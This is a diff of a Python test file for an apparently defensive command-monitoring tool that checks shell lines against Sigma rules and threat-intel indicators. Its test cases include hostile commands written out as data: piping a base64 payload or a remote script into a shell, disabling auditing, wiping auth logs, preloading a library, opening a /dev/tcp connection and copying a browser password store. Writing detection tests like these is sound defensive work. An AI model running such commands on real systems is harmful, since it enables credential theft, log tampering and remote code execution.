@@ -2,67 +2,31 @@
 
 from __future__ import annotations
 
-import json
-import threading
-from collections.abc import Iterator
+import sys
 from datetime import UTC, datetime
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from itertools import pairwise
 from pathlib import Path
 from typing import Any
-from urllib.parse import parse_qs, urlsplit
 
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from intel_records import BUNDLE, RECORD
 
-from lathe.cli.main import main
+from lathe.guard.acts.events import Events, started_with
 from lathe.guard.acts.installs import Package, installed
 from lathe.guard.acts.monitor import ActMonitor, shipped_rules
 from lathe.guard.acts.sigma import compile_rule, read_rule
 from lathe.guard.indicators import read_record
+from lathe.guard.shell_run import Context, follow
 from lathe.guard.taxonomy import shipped
 from lathe.protocol.errors import ConfigError, UsageError
 
+sys.path.append(str(Path(__file__).parents[2] / "benchmarks"))
+
+from destructive import commands
+
 NOW = datetime(2026, 6, 1, tzinfo=UTC)
-BUNDLE: dict[str, Any] = {
-    "type": "bundle",
-    "id": "bundle--1",
-    "objects": [
-        {"type": "identity", "id": "identity--1"},
-        {
-            "type": "indicator", "id": "indicator--1", "name": "a stand-in", "pattern_type": "stix", "confidence": 90,
-            "pattern": "[domain-name:value = 'Bad.Example'] OR [url:value = 'https://other.example/x/']",
-            "valid_from": "2026-01-01T00:00:00Z", "valid_until": "2026-12-31T00:00:00Z",
-        },
-        {
-            "type": "indicator", "id": "indicator--2", "pattern_type": "stix", "valid_from": "2025-01-01T00:00:00Z",
-            "valid_until": "2025-02-01T00:00:00Z", "pattern": "[domain-name:value = 'old.example']",
-        },
-        {
-            "type": "indicator", "id": "indicator--3", "pattern_type": "stix", "valid_from": "2025-01-01T00:00:00Z",
-            "pattern": "[ipv4-addr:value ISSUBSET '203.0.113.0/24' OR ipv6-addr:value = '2001:DB8::1']",
-        },
-        {
-            "type": "indicator", "id": "indicator--4", "pattern_type": "stix", "valid_from": "2025-01-01T00:00:00Z",
-            "pattern": f"[file:hashes.'SHA-256' = '{'AB' * 32}']",
-        },
-        {
-            "type": "indicator", "id": "indicator--5", "pattern_type": "stix", "valid_from": "2025-01-01T00:00:00Z",
-            "pattern": "[process:name = 'x' AND file:name = 'y']",
-        },
-    ],
-}  # fmt: skip
-RECORD: dict[str, Any] = {
-    "id": "MAL-2026-1",
-    "summary": "a stand-in",
-    "affected": [
-        {"package": {"ecosystem": "PyPI", "name": "Some.Thing"}, "versions": ["1.0", "1.1"]},
-        {
-            "package": {"ecosystem": "npm", "name": "@scope/thing"},
-            "ranges": [{"type": "SEMVER", "events": [{"introduced": "0"}]}],
-        },
-    ],
-}
 
 
 def rule(detection: dict[str, Any], category: str = "process_creation") -> ActMonitor:
@@ -77,6 +41,8 @@ def rule(detection: dict[str, Any], category: str = "process_creation") -> ActMo
         ("for i in 1 2; do X=tool; $X --flag $i; done", True),
         ("t'oo'l --FLAG y | cat", True),
         ("env A=1 xargs /opt/tool --flag < list", True),
+        ("echo dG9vbCAtLWZsYWc= | base64 -d | sh", True),
+        ("sh -c 'true\ntool --flag'", True),
         ("tool --other", False),
         ("tool --flag --dry-run", False),
         ("mytool --flag", False),
@@ -110,6 +76,16 @@ def test_sigma_reads_as_specified(detection: dict[str, Any], hits: str, misses: 
     assert rule(detection).look(hits) and not rule(detection).look(misses)
 
 
+def test_rules_of_others_below_high_are_notes_until_two_of_them_agree() -> None:
+    plain = {"title": "t", "level": "medium", "logsource": {"category": "process_creation", "product": "linux"}}
+    detections = [{"a": {"CommandLine|contains": word}, "condition": "a"} for word in ("one", "two")]
+    monitor = ActMonitor(
+        [compile_rule({**plain, "id": str(at), "detection": one}, "o") for at, one in enumerate(detections)]
+    )
+    assert [found.score for found in monitor.look("x one")] == [0.45]
+    assert [found.score for found in monitor.look("x one two")] == [0.6, 0.6]
+
+
 def test_what_a_line_writes_is_an_event_of_a_file() -> None:
     monitor = rule({"a": {"TargetFilename|startswith": "/etc/some.d/"}, "condition": "a"}, "file_event")
     for command in ("echo x >> /etc/some.d/y", "cd /etc/some.d && cp /tmp/a b", "echo x | sudo tee -a /etc/some.d/z"):
@@ -119,22 +95,22 @@ def test_what_a_line_writes_is_an_event_of_a_file() -> None:
 
 def test_the_shipped_rules_name_clauses_and_know_where_to_look() -> None:
     for one in shipped_rules():
-        assert one.clause in shipped().clauses and one.needles, one.title
+        assert one.clause in shipped().clauses and one.clues, one.title
 
 
-@pytest.mark.parametrize(
-    ("command", "title"),
-    [
-        ("sudo auditctl -e 0", "auditing"),
-        ("sh -c 'truncate -s 0 /var/log/auth.log'", "are wiped"),
-        ("echo /tmp/x.so | sudo tee -a /etc/ld.so.preload", "preloaded"),
-        ("exec 5<>/dev/tcp/198.51.100.7/443", "connection of its own"),
-        ("cp ~/.config/google-chrome/Default/'Login Data' /tmp/", "stores of passwords"),
-        ("curl -s https://sh.example.org | sudo bash", "piped into a shell"),
-    ],
-)
-def test_clear_cases_are_found(command: str, title: str) -> None:
-    assert any(title in one.why for one in ActMonitor(shipped_rules()).look(command))
+CLEAR = {
+    "sudo auditctl -e 0": "auditing",
+    "sh -c 'truncate -s 0 /var/log/auth.log'": "are wiped",
+    "echo /tmp/x.so | sudo tee -a /etc/ld.so.preload": "preloaded",
+    "exec 5<>/dev/tcp/198.51.100.7/443": "connection of its own",
+    "cp ~/.config/google-chrome/Default/'Login Data' /tmp/": "stores of passwords",
+    "curl -s https://sh.example.org | sudo bash": "piped into a shell",
+}
+
+
+@pytest.mark.parametrize("command", CLEAR)
+def test_clear_cases_are_found(command: str) -> None:
+    assert any(CLEAR[command] in one.why for one in ActMonitor(shipped_rules()).look(command))
 
 
 def test_indicators_match_until_they_expire() -> None:
@@ -237,96 +213,16 @@ def test_any_json_gives_indicators_or_a_sentence(plain: Any) -> None:
         assert all(one.endswith(".") for one in read.left)
 
 
-class Taxii(BaseHTTPRequestHandler):
-    """One collection of TAXII 2.1, two objects a page."""
-
-    objects: tuple[dict[str, Any], ...] = ()
-
-    def do_GET(self) -> None:
-        parts = urlsplit(self.path)
-        asked = parse_qs(parts.query)
-        right = self.headers["Authorization"] == "Bearer right"
-        status = 200 if right and parts.path == "/api/collections/c1/objects/" else 401
-        at = int(asked.get("next", ["0"])[0])
-        more = at + 2 < len(self.objects)
-        envelope = {"more": more, "objects": self.objects[at : at + 2], **({"next": str(at + 2)} if more else {})}
-        body = json.dumps(envelope if status == 200 else {"title": "no"}).encode()
-        self.send_response(status)
-        self.send_header("Content-Type", "application/taxii+json;version=2.1")
-        self.send_header("Content-Length", str(len(body)))
-        self.end_headers()
-        self.wfile.write(body)
-
-    def log_message(self, *_: Any) -> None:
-        """Say nothing."""
-
-
-@pytest.fixture
-def collection() -> Iterator[str]:
-    Taxii.objects = tuple(BUNDLE["objects"])
-    server = ThreadingHTTPServer(("127.0.0.1", 0), Taxii)
-    thread = threading.Thread(target=server.serve_forever)
-    thread.start()
-    yield f"http://127.0.0.1:{server.server_port}/api/collections/c1/"
-    server.shutdown()
-    thread.join()
-    server.server_close()
-
-
-def ran(capsys: pytest.CaptureFixture[str], *argv: object) -> tuple[int, str]:
-    code = main(["guard", "intel", *map(str, argv)])
-    said = capsys.readouterr()
-    return code, said.out + said.err
-
-
-def test_what_is_added_and_pulled_is_kept_and_explained(
-    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, collection: str
-) -> None:
-    monkeypatch.setenv("LATHE_HOME", str(tmp_path / "home"))
-    monkeypatch.setenv("TOKEN", "Bearer right")
-    (tmp_path / "mal.json").write_text(json.dumps(RECORD))
-    (tmp_path / "rule.yml").write_text(
-        "title: a stand-in\nid: r1\nlogsource: {category: process_creation, product: linux}\n"
-        "detection: {a: {Image|endswith: /tool}, condition: a}\n"
-    )
-    code, said = ran(capsys, "add", tmp_path / "mal.json", tmp_path / "rule.yml")
-    assert (code, said) == (0, "Kept 2 indicators and 1 rules.\n")
-    code, said = ran(capsys, "sync", collection, "--authorization-env", "TOKEN")
-    assert code == 0 and said.startswith("Kept 6 indicators of http") and "Left out: indicator--5: process:name" in said
-    code, said = ran(capsys, "explain", "bad.example")
-    assert code == 0 and "(indicator--1) 'a stand-in', confidence 90 of 100, from 2026-01-01, until 2026-12-31" in said
-    assert "not in force" in ran(capsys, "explain", "old.example")[1]
-    assert "203.0.113.0/24" in ran(capsys, "explain", "203.0.113.77")[1]
-    assert "MAL-2026-1" in ran(capsys, "explain", "pypi/some_thing")[1]
-    assert ran(capsys, "explain", "good.example")[0] == 1
-    Taxii.objects = Taxii.objects[:1]  # what the collection no longer holds no longer counts
-    assert ran(capsys, "sync", collection, "--authorization-env", "TOKEN")[0] == 0
-    assert ran(capsys, "explain", "bad.example")[0] == 1
-    assert "1 Sigma rules" in ran(capsys, "list")[1]
-
-    from lathe.guard.intel import Intel
-
-    monitor = Intel(tmp_path / "home").monitor()
-    assert [one.monitor for one in monitor.look("tool && npm i @scope/thing")] == ["acts", "intel"]
-
-
-@pytest.mark.parametrize(
-    ("argv", "text", "sentence"),
-    [
-        (("add", "FILE"), "{", "is no JSON"),
-        (("add", "FILE"), "[]", "holds no STIX bundle and no OSV record."),
-        (("add", "FILE"), '{"id": "CVE-1", "affected": []}', "is no record of a malicious package"),
-        (("add", "/no/such/file"), "", "can't be read: No such file"),
-        (("sync", "http://taxii.example/c/"), "", "is asked over https only."),
-        (("sync", "COLLECTION"), "", "answers with 401."),
-    ],
-)
-def test_what_cannot_be_used_is_told_in_one_sentence(
-    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, collection: str,
-    argv: tuple[str, ...], text: str, sentence: str,
-) -> None:  # fmt: skip
-    monkeypatch.setenv("LATHE_HOME", str(tmp_path / "home"))
-    (tmp_path / "file").write_text(text)
-    filled = {"FILE": str(tmp_path / "file"), "COLLECTION": collection}
-    code, said = ran(capsys, *(filled.get(one, one) for one in argv))
-    assert code == 2 and sentence in said
+def test_no_rule_is_passed_by_for_want_of_a_look() -> None:
+    """What is looked at is told by words of the text; looking at everything must find no more."""
+    monitor = ActMonitor(shipped_rules())
+    lines = [*commands("dangerous"), *commands("ordinary"), *CLEAR, *(f"{one}\n{two}" for one, two in pairwise(CLEAR))]
+    for line in lines:
+        events = Events(follow(line, Context("/", {"HOME": "/root", "PWD": "/"}, "/")))
+        alone = [started_with(line)] if "\n" not in line else []
+        every = {
+            one.id
+            for one in shipped_rules()
+            if any(map(one.check, [*events.of(one.category), *(alone if one.category == "process_creation" else ())]))
+        }
+        assert {found.evidence["rule"] for found in monitor.look(line)} == every, line
